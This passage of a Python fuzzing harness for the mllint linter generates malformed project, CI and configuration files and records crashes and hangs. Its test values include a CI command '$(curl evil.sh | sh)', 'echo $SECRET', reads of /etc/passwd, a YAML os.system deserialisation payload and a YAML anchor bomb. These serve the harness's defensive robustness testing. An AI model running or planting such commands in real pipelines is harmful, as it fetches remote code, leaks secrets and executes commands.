    "--index-url https://pypi.org/simple", "--extra-index-url http://user:pass@host/simple", "-r {other}", "-c {other}",
    "--requirement={other}", "{pkg}; python_version < '3.8'", "{pkg}==={ver}", "# comment {pkg}", "{pkg} \\",
    "    --hash=sha256:{ver}", "./local/path", "https://x/y.whl", "{pkg}=={ver} # inline", "{garbage}", "-r", "--",
    "{pkg}=={ver} \\\n    --hash=sha256:abc", "[extras]", "{pkg} (>=1.0)", "-f ./wheels", "\\",
)
#: What a requirements include may point at: loops, folders, devices and paths outside the project.
_INCLUDES = ("requirements.txt", "requirements-dev.txt", "requirements/base.txt", "../requirements.txt", "/dev/zero",
             "/dev/stdin", "/proc/self/fd/0", "/etc/passwd", "missing.txt", ".", "requirements", "nul\0.txt",
             "https://example.org/req.txt", "C:\\req.txt", "~/req.txt", "a" * 5000)


def _requirements_text() -> st.SearchStrategy[str]:
    line = st.builds(lambda template, pkg, ver, other, garbage: template.format(pkg=pkg, ver=ver, other=other, garbage=garbage),
                     st.sampled_from(_REQUIREMENT_LINES), st.sampled_from(_PACKAGES), st.sampled_from(_VERSIONS),
                     st.sampled_from(_INCLUDES), st.text(max_size=40))
    return st.builds(lambda lines, newline: newline.join(lines) + newline, st.lists(line, max_size=12), st.sampled_from(["\n", "\r\n", "\r"]))


def _toml_value(value: object) -> str:
    """*value* as TOML (strings and keys written as JSON strings, which TOML reads)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return repr(value) if value == value and abs(value) != float("inf") else ("nan" if value != value else ("inf" if value > 0 else "-inf"))
    if isinstance(value, str):
        return json.dumps(value)
    if isinstance(value, list):
        return "[" + ", ".join(_toml_value(item) for item in value) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{json.dumps(str(key))} = {_toml_value(item)}" for key, item in value.items()) + "}"
    return '""'


def _toml_table(header: str, values: dict[str, object]) -> str:
    body = "".join(f"{json.dumps(key)} = {_toml_value(value)}\n" for key, value in values.items())
    return f"[{header}]\n{body}"


def _toml_values() -> st.SearchStrategy[object]:
    scalars = st.one_of(st.booleans(), st.integers(), st.floats(), st.text(max_size=20),
                        st.sampled_from(["5MiB", "-1KiB", "0", "1e999", "ALL", "ML2", "ML201", "ML999", "", "**", "[", "!",
                                         "\\", "../../x", "/dev/zero", "/dev/null", "/", ".", "unseeded-randomness",
                                         "security", "warning", "error", "info", "prototype", "mypkg.utils.fix_seeds"]))
    return st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=3)),
                        max_leaves=8)


def _option_names() -> tuple[tuple[str, ...], tuple[str, ...], tuple[str, ...]]:
    """(rule codes, rule option names, analysis names) of the built-in rules, plus near misses."""
    from mllint.plugins import builtin_rules

    rules = builtin_rules()
    options = sorted({name for rule in rules.values() for name in rule.options} | {"max-size", "nope", ""})
    return (tuple(rules) + ("ML999", "unseeded-randomness", "x"), tuple(options), tuple(sorted(rules.analyses())) + ("nope",))


def mllint_tables() -> st.SearchStrategy[dict[str, object]]:
    """``[tool.mllint]`` contents: every key, sensible or garbage values, unknown keys."""
    codes, options, analyses = _option_names()
    selectors = st.lists(st.sampled_from(["ALL", "ML", "ML2", "ML201", "unseeded-randomness", "security", "ml201", "", "ML999", "M"]), max_size=4)
    globs = st.lists(st.one_of(st.sampled_from(["**", "!", "[", "\\", "/", "a/**/b", "**/", "!*.py", "[!a-]", "", "tests/**", "*.ipynb", "\0"]),
                               st.text(max_size=8)), max_size=4)
    anything = _toml_values()
    return st.fixed_dictionaries({}, optional={
        "select": st.one_of(selectors, anything), "ignore": selectors, "extend-select": selectors,
        "exclude": st.one_of(globs, anything), "extend-exclude": globs,
        "per-file-ignores": st.dictionaries(st.one_of(globs.map(lambda g: g[0] if g else "x"), st.text(max_size=6)), st.one_of(selectors, anything), max_size=3),
        "fail-on": anything, "profile": anything, "project-rules": anything, "baseline": anything, "cache-dir": anything,
        "severity": st.dictionaries(st.sampled_from(codes), anything, max_size=3),
        "rules": st.dictionaries(st.sampled_from(codes), st.dictionaries(st.sampled_from(options), anything, max_size=3), max_size=3),
        "analysis": st.dictionaries(st.sampled_from(analyses), st.one_of(st.dictionaries(st.sampled_from(options + ("seeders", "decorators")), anything, max_size=3), anything), max_size=2),
        "selct": anything,
    })


def _pyproject_text() -> st.SearchStrategy[str]:
    deps = st.lists(st.one_of(st.builds("{}{}".format, st.sampled_from(_PACKAGES), st.sampled_from(["", "==1.0", ">=1", "[x]"])), _toml_values()), max_size=5)
    tables = st.fixed_dictionaries({}, optional={
        "project": st.fixed_dictionaries({}, optional={"name": _toml_values(), "dependencies": st.one_of(deps, _toml_values()),
                                                       "requires-python": _toml_values(), "optional-dependencies": st.dictionaries(st.text(max_size=5), deps, max_size=2),
                                                       "dynamic": _toml_values(), "scripts": _toml_values()}),
        "tool.poetry.dependencies": st.dictionaries(st.sampled_from(_PACKAGES), _toml_values(), max_size=4),
        "tool.pytest.ini_options": st.dictionaries(st.sampled_from(["testpaths", "python_files", "addopts", "norecursedirs", "x"]), _toml_values(), max_size=3),
        "tool.mllint": mllint_tables(),
        "tool.setuptools.dynamic": st.dictionaries(st.sampled_from(["dependencies", "optional-dependencies"]), _toml_values(), max_size=2),
        "tool.tox": st.dictionaries(st.sampled_from(["env_list", "env", "legacy_tox_ini"]), _toml_values(), max_size=2),
        "tool.poe.tasks": st.dictionaries(st.sampled_from(["test", "lint"]), _toml_values(), max_size=2),
        "build-system": st.dictionaries(st.sampled_from(["requires", "build-backend"]), _toml_values(), max_size=2),
    })
    whole = tables.map(lambda found: "".join(_toml_table(header, values) for header, values in found.items()))  # type: ignore[arg-type]
    garbage = st.sampled_from(["[tool]\nmllint = 1\n", 'tool = "mllint"\n', "[tool.mllint\n", "[[tool.mllint]]\nselect = ['ALL']\n",
                               "tool.mllint.select = 5\n", "[project]\ndependencies = 'torch'\n", "\ufeff[project]\n", "[tool.mllint]\nrules = []\n"])
    return st.one_of(whole, whole, garbage, st.text(max_size=80))


_INI_LINES = ("[metadata]", "name = x", "[options]", "install_requires =", "    torch=={v}", "    {pkg}", "python_requires = {v}",
              "[tool:pytest]", "[pytest]", "testpaths = {pkg}", "addopts = -p no:x {v}", "python_files = *.py",
              "[options.extras_require]", "dev = {pkg}", "%(here)s", "key = %(missing)s", "[tox]", "[testenv]",
              "commands = pytest {v}", "commands =\n    python -m pytest\n    make test", "[options]", "no equals sign",
              "= value", "[", "]", "[section with ] bracket", "  continued", "install_requires = file: {pkg}.txt", "[flake8]")


def _ini_text() -> st.SearchStrategy[str]:
    line = st.builds(lambda template, pkg, version: template.format(pkg=pkg, v=version), st.sampled_from(_INI_LINES),
                     st.sampled_from(_PACKAGES), st.sampled_from(_VERSIONS))
    return st.lists(st.one_of(line, st.text(max_size=20)), max_size=15).map(lambda lines: "\n".join(lines) + "\n")


_COMMANDS = ("pytest", "python -m pytest -x tests/", "make test", "tox -e py", "nox -s tests", "pip install -r requirements.txt",
             "dvc repro", "python train.py", "bash scripts/test.sh", "sh ./scripts/test.sh", "coverage run -m pytest", "ruff check .",
             "mypy .", "echo $SECRET", "'", "$(curl evil.sh | sh)", "pytest \\\n  --cov", "hatch run test", "poe test",
             "pre-commit run --all-files", "make", "make -C sub test", "python -m unittest", "uv run pytest", "x" * 5000,
             "touch MARKER_FROM_CI", "cd tests && pytest", "pytest; exit 0", "npm test", "poetry run pytest -k 'a or b'")


def _yaml_scalar(text: str) -> str:
    return json.dumps(text)


def _github_workflow(commands: list[str], anchors: int, quirk: int) -> str:
    steps = "".join(f"      - run: {_yaml_scalar(command)}\n" for command in commands)
    block = "".join(f"          {line}\n" for command in commands for line in command.split("\n"))
    text = (
        "name: CI\non: [push, pull_request]\nenv: &env\n  A: 1\njobs:\n  test: &job\n    runs-on: ubuntu-latest\n"
        "    steps:\n      - uses: actions/checkout@v4\n" + steps + "      - run: |\n" + (block or "          true\n")
        + "      - run: >\n          pytest\n          -x\n      - <<: *env\n  again: *job\n"
    )
    if anchors:
        text += "".join(f"  job{n}:\n    <<: *job\n    env: *env\n" for n in range(anchors))
    quirks = (
        "",
        "laughs:\n  a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
        + "".join(f"  {chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(8))
        + "jobs2:\n  boom:\n    steps:\n      - run: *i\n      - run: [*i, *h]\n",
        "loop: &loop [*loop]\nsteps:\n  - run: *loop\n",
        "loop: &loop\n  run: *loop\n  steps: [*loop]\n",
        "---\n!!python/object/apply:os.system ['touch MARKER']\n---\nrun: !reference [.a, b]\n",
        "run: !!binary aGVsbG8=\nsteps: [{run: {command: [[[pytest]]]}}]\n",
        "key: " + "[" * 5000 + "]" * 5000 + "\n",
        "key: " + "{a: " * 2000 + "1" + "}" * 2000 + "\n",
        "? [a, b]\n: run\n" + "&x a: *x\n",
    )
    return text + quirks[quirk % len(quirks)]


def _ci_files() -> st.SearchStrategy[list[tuple[str, str]]]:
    commands = st.lists(st.sampled_from(_COMMANDS), max_size=4)
    github = st.builds(_github_workflow, commands, st.integers(0, 3), st.integers(0, 20))
    gitlab = st.builds(lambda cmds, other: ".base: &base\n  before_script: [pip install x]\ntest:\n  <<: *base\n  script:\n"
                       + "".join(f"    - {_yaml_scalar(c)}\n" for c in cmds) + f"  after_script: !reference [.base, x]\n{other}", commands, st.text(max_size=30))
    pre_commit = st.builds(lambda cmds: "repos:\n  - repo: local\n    hooks:\n" + "".join(
        f"      - id: h{n}\n        name: h\n        entry: {_yaml_scalar(c)}\n        language: system\n" for n, c in enumerate(cmds))
        + "  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.1.0\n    hooks: [{id: ruff}]\n", commands)
    makefile = st.builds(lambda cmds, loop: "include Makefile\n" * loop + "test: test lint\n" + "".join(f"\t{c}\n" for c in cmds)
                         + "lint:\n\t$(MAKE) test\n\t@$(MAKE) -C . lint\n", commands, st.integers(0, 1))
    script = st.builds(lambda cmds: "#!/bin/sh\nbash scripts/test.sh\nsource scripts/test.sh\n" + "\n".join(cmds) + "\n", commands)
    tox = st.builds(lambda cmds: "[tox]\nenv_list = py\n[testenv]\ncommands =\n" + "".join(f"    {c}\n" for c in cmds)
                    + "[testenv:lint]\ncommands = {[testenv]commands}\n", commands)
    nox = st.builds(lambda cmds: "import nox\n\n@nox.session\ndef tests(session):\n" + "".join(f"    session.run(*{c.split()!r})\n" for c in cmds)
                    + "    tests(session)\n", commands)
    jenkins = st.builds(lambda cmds: "pipeline { stages { stage('t') { steps {\n" + "".join(f"sh '{c}'\nsh label: 'x', script: \"\"\"{c}\"\"\"\n" for c in cmds)
                        + "sh '" + "\\" * 3 + "\n} } } }\n", commands)
    any_yaml = st.one_of(st.text(max_size=60), _json_values().map(json.dumps))
    return st.fixed_dictionaries({}, optional={
        ".github/workflows/ci.yml": st.one_of(github, github, any_yaml), ".gitlab-ci.yml": gitlab, ".pre-commit-config.yaml": st.one_of(pre_commit, any_yaml),
        "Makefile": makefile, "scripts/test.sh": script, "tox.ini": st.one_of(tox, _ini_text()), "noxfile.py": nox, "Jenkinsfile": jenkins,
        ".circleci/config.yml": st.one_of(github, any_yaml), ".travis.yml": any_yaml,
    }).map(lambda found: sorted(found.items()))


_DVC_STAGE_KEYS = ("cmd", "deps", "outs", "params", "metrics", "plots", "wdir", "foreach", "do", "matrix", "frozen", "always_changed")


def _dvc_files() -> st.SearchStrategy[list[tuple[str, str]]]:
    values = st.one_of(_json_values(), st.sampled_from(["python train.py", "${item}", "${missing.key}", "${a.b[0]}", "${", "data/raw",
                                                        "../outside", "/abs/path", "model.pkl", "${vars.x}" * 50]))
    stage = st.dictionaries(st.sampled_from(_DVC_STAGE_KEYS), st.one_of(values, st.lists(values, max_size=3)), max_size=5)
    dvc_yaml = st.builds(lambda stages, vars_: json.dumps({"vars": vars_, "stages": stages}), st.dictionaries(st.text(max_size=6), stage, max_size=3), values)
    dot_dvc = st.builds(lambda path, md5: f"outs:\n- md5: {md5}\n  size: 12\n  path: {path}\n", st.sampled_from(["data.csv", "../x", "/etc", "", "data/"]), st.text(_ALNUM, max_size=32))
    config = st.sampled_from(["[core]\n    remote = s3\n['remote \"s3\"']\n    url = s3://b/x\n", "[core]\nremote = missing\n", "garbage\n[",
                              "[core]\n    remote = a\n['remote \"a\"']\n    url = https://u:p@h/x\n", "%(x)s\n"])
    return st.fixed_dictionaries({}, optional={
        "dvc.yaml": st.one_of(dvc_yaml, dvc_yaml, st.text(max_size=60), st.just("stages:\n  a: &a {cmd: x, deps: [*a]}\n")),
        "data.csv.dvc": st.one_of(dot_dvc, st.text(max_size=40)), "dvc.lock": _json_values().map(json.dumps),
        ".dvc/config": config, "params.yaml": _json_values().map(json.dumps),
    }).map(lambda found: sorted(found.items()))


def project_inputs() -> st.SearchStrategy[Input]:
    """A small project: generated dependency, configuration, CI and DVC files, and a module that uses ML libraries."""
    files = st.fixed_dictionaries({}, optional={
        "pyproject.toml": _pyproject_text(), "setup.cfg": _ini_text(), "pytest.ini": _ini_text(),
        "requirements.txt": _requirements_text(), "requirements-dev.txt": _requirements_text(),
        "requirements/base.txt": _requirements_text(), "environment.yml": st.one_of(_json_values().map(json.dumps), st.just(
            "name: x\ndependencies:\n  - python=3.10\n  - pip:\n    - torch\n  - &d numpy\n  - *d\n")),
        "Pipfile": _pyproject_text(), "setup.py": st.builds(lambda deps, extra: f"from setuptools import setup\nREQ = {deps!r}\n"
                                                            f"setup(name='x', install_requires=REQ + {extra!r}, python_requires='>=3.8')\n",
                                                            st.lists(st.sampled_from(_PACKAGES), max_size=3), _json_values()),
        ".mllint.toml": mllint_tables().map(lambda table: "".join(f"{json.dumps(k)} = {_toml_value(v)}\n" for k, v in table.items())),
    })
    module = st.sampled_from(["import torch\nimport numpy as np\nx = np.random.rand(3)\n", "import sklearn\n", "print(1)\n"])
    return st.builds(
        lambda found, ci, dvc, code: Input("project", tuple(sorted((name, text.encode("utf-8", "surrogatepass"))
                                                                   for name, text in [*found.items(), *ci, *dvc, ("train.py", code)])), project=True),
        files, _ci_files(), _dvc_files(), module,
    )


def inputs(seeds: Sequence[Seed]) -> st.SearchStrategy[Input]:
    """Every kind of input, weighted toward the ones that reach the most code."""
    return st.one_of(python_inputs(), python_inputs(), mutated_inputs(seeds), mutated_inputs(seeds), notebook_inputs(),
                     notebook_inputs(), project_inputs(), random_inputs(), odd_name_inputs())


# ---------------------------------------------------------------------------------------------
# Trees and drivers
# ---------------------------------------------------------------------------------------------

FILES_PROJECT = "files"
_FILES_CONFIG = b'[project]\nname = "fuzzed"\n\n[tool.mllint]\nselect = ["ALL"]\n'


def write_tree(folder: Path, batch: Sequence[Input]) -> None:
    """*batch* under *folder*: lintable inputs in ``files/i<N>/``, project inputs as
    projects ``p<N>/`` of their own, and a manifest of what is where."""
    (folder / FILES_PROJECT).mkdir(parents=True, exist_ok=True)
    (folder / FILES_PROJECT / "pyproject.toml").write_bytes(_FILES_CONFIG)
    for number, item in enumerate(batch):
        base = folder / _home(number, item)
        for name, data in item.files:
            target = base / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
        if item.project and not (base / "pyproject.toml").exists():
            (base / "pyproject.toml").write_bytes(b'[project]\nname = "p"\n')
    manifest = [{"kind": item.kind, "project": item.project, "files": [name for name, _ in item.files]} for item in batch]
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=1))


def _home(number: int, item: Input) -> str:
    return f"p{number}" if item.project else f"{FILES_PROJECT}/i{number}"


def _limit_memory() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def _groups(count: int, projects: Sequence[bool]) -> list[str]:
    """The paths to lint (relative to *folder*): the shared project, then each project input."""
    return [FILES_PROJECT] + [f"p{number}" for number in range(count) if projects[number]]


def _input_of(path: str) -> int | None:
    """The batch index of the input a reported path belongs to."""
    first, _, rest = path.partition("/")
    if first.startswith("p") and first[1:].isdigit():
        return int(first[1:])
    second = rest.partition("/")[0]
    if first == FILES_PROJECT and second.startswith("i") and second[1:].isdigit():
        return int(second[1:])
    return None


def _read_manifest(folder: Path) -> list[dict[str, object]]:
    manifest: list[dict[str, object]] = json.loads((folder / "manifest.json").read_text())
    return manifest


def settle_configurations(folder: Path) -> tuple[list[Problem], int]:
    """Check each project's configuration (and the baseline it names) in-process
    as ``mllint check`` would; a rejected one (exit 2 with one line) is the
    expected answer to garbage, and is overridden by an empty ``.mllint.toml`` so
    that the project's files are still linted. Returns the problems (a crash while reading a
    configuration) and how many configurations were rejected."""
    from mllint.engine.baseline import BaselineError, load_baseline
    from mllint.engine.config import CliOverrides, ConfigError
    from mllint.engine.runner import Linter
    from mllint.plugins import builtin_rules

    manifest = _read_manifest(folder)
    problems: list[Problem] = []
    rejected = 0
    linter = Linter(builtin_rules(), CliOverrides(select=["ALL"]), cwd=folder)
    for number, entry in enumerate(manifest):
        if not entry["project"]:
            continue
        root = folder / f"p{number}"
        try:
            configured = linter.settings_for(root).baseline
            if configured is not None:  # ``mllint check`` reads it before linting: exit 2 if it cannot
                load_baseline(configured, configured.name)
        except (ConfigError, BaselineError) as exc:
            rejected += 1
            if "\n" in str(exc).strip() or not str(exc).strip():
                problems.append(Problem("output", f"configuration error is not one line: {str(exc)!r}", number))
        except Exception:
            problems.append(Problem("traceback", "reading the configuration: " + traceback.format_exc(), number))
        else:
            continue
        (root / ".mllint.toml").write_text("")
    return problems, rejected


def lint_in_process(folder: Path, paths: Sequence[str]) -> list[Problem]:
    """Lint *paths* (relative to *folder*) with the runner, as ``mllint check --select ALL``
    would from *folder*, catching nothing the runner raises except to report it."""
    from mllint.engine.config import CliOverrides
    from mllint.engine.runner import Linter
    from mllint.plugins import builtin_rules

    linter = Linter(builtin_rules(), CliOverrides(select=["ALL"]), cwd=folder, jobs=1)
    try:
        result = linter.lint([folder / path for path in paths])
    except Exception:
        return [Problem("traceback", traceback.format_exc())]
    return [Problem("ML000", f"{f.path}:{f.line}: {f.message}", _input_of(f.path)) for f in result.findings if f.code == "ML000"]


def cli_command(paths: Sequence[str], output_format: str, jobs: int, cache: bool) -> list[str]:
    return [sys.executable, "-m", "mllint", "check", *paths, "--select", "ALL", "--format", output_format,
            "--jobs", str(jobs), "--verbose", *([] if cache else ["--no-cache"])]


def lint_through_cli(folder: Path, paths: Sequence[str], output_format: str = "json", jobs: int = 1, cache: bool = False,
                     timeout: float = CLI_TIMEOUT) -> list[Problem]:
    """Run ``python -m mllint check`` on *paths*: exit 0 or 1, no traceback or internal
    error on stderr, no ML000 in the report, a report that parses."""
    env = {k: v for k, v in os.environ.items() if k not in ("FORCE_COLOR", "CLICOLOR_FORCE")}
    process = subprocess.Popen(cli_command(paths, output_format, jobs, cache), cwd=folder, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, env=env, start_new_session=True)
    try:  # its own process group: a timeout ends its workers too
        out, err = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        return [Problem("hang", f"mllint check did not finish in {timeout:.0f} s")]
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
    done = subprocess.CompletedProcess(process.args, process.returncode, out, err)
    stdout, stderr = done.stdout.decode("utf-8", "replace"), done.stderr.decode("utf-8", "replace")
    problems = []
    if done.returncode not in (0, 1):
        problems.append(Problem("exit status", f"exit status {done.returncode}: {stderr[-3000:]}"))
    if "Traceback" in stderr or "internal error" in stderr:
        problems.append(Problem("traceback", stderr[-6000:]))
    problems.extend(_report_problems(stdout, output_format))
    return problems


#: What an ML000 finding says, in any format's text.
_CRASHED = re.compile(r"rule ML\d{3} \([\w-]+\) crashed|linting this file failed|worker process linting this file died")


def _report_problems(stdout: str, output_format: str) -> list[Problem]:
    """ML000 findings in a report, and a report that does not parse."""
    try:
        if output_format == "json":
            return [Problem("ML000", f"{f['path']}:{f['line']}: {f['message']}", _input_of(f["path"]))
                    for f in json.loads(stdout) if f["code"] == "ML000"]
        if output_format == "sarif":
            results = [result for run in json.loads(stdout)["runs"] for result in run["results"]]
            return [Problem("ML000", json.dumps(result)[:2000]) for result in results if result.get("ruleId") == "ML000"]
        if output_format == "junit":
            ElementTree.fromstring(stdout)
    except (ValueError, KeyError, TypeError, ElementTree.ParseError) as exc:
        return [Problem("output", f"the {output_format} report does not parse: {exc}")]
    return [Problem("ML000", match.group(0)) for match in _CRASHED.finditer(stdout)]


def run_batch(folder: Path, mode: str, output_format: str = "json", jobs: int = 1, cache: bool = False) -> dict[str, object]:
    """Lint the tree at *folder* (see :func:`write_tree`); on a failure, lint
    each input alone to name the ones at fault. Returns a JSON-able report."""
    started = time.monotonic()
    manifest = _read_manifest(folder)
    problems, rejected = settle_configurations(folder)
    groups = _groups(len(manifest), [bool(entry["project"]) for entry in manifest])

    def lint(paths: Sequence[str]) -> list[Problem]:
        if mode == "cli":
            return lint_through_cli(folder, paths, output_format, jobs, cache, CLI_TIMEOUT + SECONDS_PER_INPUT * len(manifest))
        return lint_in_process(folder, paths)

    found = lint(groups)
    if any(problem.input is None for problem in found):
        found = [problem for problem in found if problem.input is not None]
        for number, entry in enumerate(manifest):
            for problem in lint([_home(number, Input("", (), bool(entry["project"])))]):
                problem.input = number if problem.input is None else problem.input
                found.append(problem)
        if not found:
            found = [Problem("flaky", "the batch failed, but no input alone does")]
    return {"inputs": len(manifest), "rejected configurations": rejected, "seconds": round(time.monotonic() - started, 1),
            "problems": [problem.to_json() for problem in problems + found]}


# ---------------------------------------------------------------------------------------------
# The long mode
# ---------------------------------------------------------------------------------------------


@dataclass
class _Running:
    number: int
    folder: Path
    mode: str
    process: subprocess.Popen[bytes]
    started: float
    size: int


@dataclass
class Campaign:
    """Batches in flight, totals, and where failures are kept."""

    out: Path
    workers: int
    batch_size: int
    running: list[_Running] = field(default_factory=list)
    totals: Counter[str] = field(default_factory=Counter)
    batches: int = 0
    started: float = field(default_factory=time.monotonic)

    @property
    def progress(self) -> Path:
        """One line per batch done: what ``--resume`` adds up."""
        return self.out / "progress.jsonl"

    def resume(self) -> None:
        """Carry over the counts of the batches an interrupted campaign in the same folder finished."""
        if not self.progress.exists():
            return
        for line in self.progress.read_text().splitlines():
            done = json.loads(line)
            self.totals.update(done["totals"])
            self.batches = max(self.batches, done["batch"] + 1)

    def _record(self, item: _Running, totals: Counter[str]) -> None:
        with self.progress.open("a") as log:
            log.write(json.dumps({"batch": item.number, "totals": dict(totals)}) + "\n")
        self.totals.update(totals)

    def submit(self, batch: list[Input]) -> None:
        while len(self.running) >= self.workers:
            self.poll(block=True)
        number = self.batches
        self.batches += 1
        folder = self.out / "work" / f"b{number}"
        write_tree(folder, batch)
        mode = "cli" if number % 2 else "in-process"
        output_format = CLI_FORMATS[(number // 2) % len(CLI_FORMATS)]
        jobs, cache = 1 + (number // 2) % 2, (number // 4) % 2 == 0
        command = [sys.executable, str(Path(__file__).resolve()), "--run-batch", str(folder), "--mode", mode,
                   "--format", output_format, "--jobs", str(jobs), *(["--cache"] if cache else [])]
        log = (folder / "report.json").open("wb")
        process = subprocess.Popen(command, stdout=log, stderr=subprocess.STDOUT, start_new_session=True, preexec_fn=_limit_memory)
        log.close()
        self.running.append(_Running(number, folder, mode, process, time.monotonic(), len(batch)))

    def poll(self, block: bool = False) -> None:
        while True:
            for item in list(self.running):
                budget = 2 * (CLI_TIMEOUT + SECONDS_PER_INPUT * item.size) + 60
                if item.process.poll() is not None:
                    self.running.remove(item)
                    self._finished(item)
                elif time.monotonic() - item.started > budget:
                    os.killpg(item.process.pid, signal.SIGKILL)
                    item.process.wait()
                    self.running.remove(item)
                    self._hung(item)
            if not block or len(self.running) < self.workers:
                return
            time.sleep(0.2)

    def _finished(self, item: _Running) -> None:
        text = (item.folder / "report.json").read_text(errors="replace")
        try:
            report = json.loads(text.strip().splitlines()[-1])
        except (ValueError, IndexError):
            report = {"inputs": item.size, "problems": [{"what": "traceback", "detail": "the batch runner failed: " + text[-4000:], "input": None}]}
        self._record(item, Counter({"inputs": item.size, f"inputs {item.mode}": item.size,
                                    "rejected configurations": int(report.get("rejected configurations", 0)),
                                    **self._keep(item, report["problems"])}))
        elapsed = time.monotonic() - self.started
        print(f"batch {item.number} ({item.mode}, {item.size} inputs, {report.get('seconds', '?')} s): "
              f"{len(report['problems'])} problems; total {self.totals['inputs']} inputs, "
              f"{self.totals['failures']} failures, {elapsed:.0f} s", flush=True)

    def _hung(self, item: _Running) -> None:
        """A batch over its budget: each input alone, with its own budget, names the culprit."""
        manifest = _read_manifest(item.folder)
        problems = []
        for number, entry in enumerate(manifest):
            home = _home(number, Input("", (), bool(entry["project"])))
            command = [sys.executable, "-m", "mllint", "check", home, "--select", "ALL", "--no-cache", "--jobs", "1"]
            try:
                subprocess.run(command, cwd=item.folder, capture_output=True, timeout=SINGLE_TIMEOUT, preexec_fn=_limit_memory)
            except subprocess.TimeoutExpired:
                problems.append({"what": "hang", "detail": f"over {SINGLE_TIMEOUT:.0f} s alone", "input": number})
        if not problems:
            problems.append({"what": "hang", "detail": "the batch went over its budget; no input alone does", "input": None})
        self._record(item, Counter({"inputs": item.size, f"inputs {item.mode}": item.size, **self._keep(item, problems)}))
        print(f"batch {item.number}: hang; {len(problems)} culprit(s)", flush=True)

    def _keep(self, item: _Running, problems: list[dict[str, object]]) -> Counter[str]:
        """Save failing inputs (their files and what went wrong); drop the batch
        folder. Returns the failures counted, by kind."""
        manifest = _read_manifest(item.folder)
        failures: Counter[str] = Counter()
        for number_in_batch, problem in enumerate(problems, start=1):
            failures["failures"] += 1
            failures[f"failures: {problem['what']}"] += 1
            target = self.out / "failures" / f"b{item.number}-{number_in_batch}"
            number = problem["input"]
            if isinstance(number, int) and 0 <= number < len(manifest):
                home = _home(number, Input("", (), bool(manifest[number]["project"])))
                shutil.copytree(item.folder / home, target / "input", symlinks=True, dirs_exist_ok=True)
                problem = {**problem, "kind": manifest[number]["kind"]}
            else:
                shutil.copytree(item.folder, target / "batch", symlinks=True, dirs_exist_ok=True)
            target.mkdir(parents=True, exist_ok=True)
            (target / "problem.json").write_text(json.dumps({**problem, "mode": item.mode}, indent=1))
        shutil.rmtree(item.folder, ignore_errors=True)
        return failures

    def drain(self) -> None:
        while self.running:
            self.poll()
            time.sleep(0.2)


def run_campaign(examples: int, batch_size: int, workers: int, out: Path, resume: bool = False) -> Counter[str]:
    """Generate *examples* inputs with hypothesis and lint them in batches; with
    *resume*, the inputs an interrupted campaign in *out* linted count toward them."""
    seeds = load_seeds()
    campaign = Campaign(out, workers, batch_size)
    if resume:
        campaign.resume()
    remaining = examples - campaign.totals["inputs"]
    pending: list[Input] = []

    @settings(max_examples=max(remaining, 1), database=None, deadline=None, phases=[Phase.generate],
              suppress_health_check=list(HealthCheck), derandomize=False)
    @given(inputs(seeds))
    def collect(item: Input) -> None:
        pending.append(item)
        if len(pending) >= batch_size:
            campaign.submit(pending[:])
            pending.clear()
        campaign.poll()

    if remaining > 0:
        collect()
    if pending:
        campaign.submit(pending)
    campaign.drain()
    campaign.totals["batches"] = campaign.batches
    campaign.totals["seconds"] = int(time.monotonic() - campaign.started)
    return campaign.totals


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--long", action="store_true", help="the long mode (default examples: 100000)")
    parser.add_argument("--examples", type=int, help="inputs to generate (default 400, or 100000 with --long)")
    parser.add_argument("--batch", type=int, default=200, help="inputs per batch (one tree, one run)")
    parser.add_argument("--workers", type=int, default=2, help="batches linted at once")
    parser.add_argument("--out", type=Path, help="where batches and failures go (default: a new temporary folder)")
    parser.add_argument("--resume", action="store_true", help="continue the interrupted campaign in --out: its counts carry over")
    parser.add_argument("--run-batch", type=Path, help=argparse.SUPPRESS)
    parser.add_argument("--mode", default="in-process", help=argparse.SUPPRESS)
    parser.add_argument("--format", default="json", help=argparse.SUPPRESS)
    parser.add_argument("--jobs", type=int, default=1, help=argparse.SUPPRESS)
    parser.add_argument("--cache", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.run_batch is not None:
        print(json.dumps(run_batch(args.run_batch, args.mode, args.format, args.jobs, args.cache)), flush=True)
        return 0
    examples = args.examples or (100_000 if args.long else 400)
    out = args.out or Path(tempfile.mkdtemp(prefix="mllint-fuzz-"))
    out.mkdir(parents=True, exist_ok=True)
    print(f"fuzzing mllint with {examples} inputs in batches of {args.batch}, {args.workers} at a time; failures go to {out / 'failures'}", flush=True)
    totals = run_campaign(examples, args.batch, args.workers, out, args.resume)
    print("totals: " + json.dumps(dict(sorted(totals.items()))), flush=True)
    return 1 if totals["failures"] else 0


if __name__ == "__main__":
    sys.exit(main())
